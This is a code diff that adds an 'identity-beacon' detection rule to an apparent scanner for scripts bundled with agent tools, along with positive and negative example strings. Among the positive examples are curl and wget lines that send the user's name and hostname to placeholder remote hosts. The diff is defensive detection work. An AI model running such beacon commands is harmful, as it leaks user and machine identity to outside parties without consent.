@@ -287,6 +287,15 @@ _FAMILY_RULES = (
         "environment into the output the agent reads and repeats",
         "scripts/run.sh",
     ),
+    Rule(
+        "identity-beacon",
+        ("8.2",),
+        "moderate",
+        "script",
+        "reconnaissance beacon: a bundled script sends the user's or the host's name to a "
+        "remote host, as install-time and dependency-confusion payloads do",
+        "scripts/run.sh",
+    ),
 )
 
 _LURE_RULES = (
@@ -1306,6 +1315,18 @@ EXAMPLES.update(
             (
                 '[ -n "$DEPLOY_TOKEN" ] && echo "DEPLOY_TOKEN is set"',
                 'echo "token: ${DEPLOY_TOKEN:0:4}..."',
+            ),
+        ),
+        "identity-beacon": (
+            "scripts/run.sh",
+            (
+                'nohup curl -s https://beacon.invalid/b -d "$(whoami)@$(hostname)" &>/dev/null &',
+                "wget -q -O- https://t.invalid/p?u=$USER",
+            ),
+            (
+                'curl -L -o tool "https://x.invalid/tool_$(uname -s)_$(uname -m)"',
+                'curl -s "http://localhost:8080/hello?name=$USER"',
+                'echo "hello $USER"',
             ),
         ),
         "credential-harvest": (
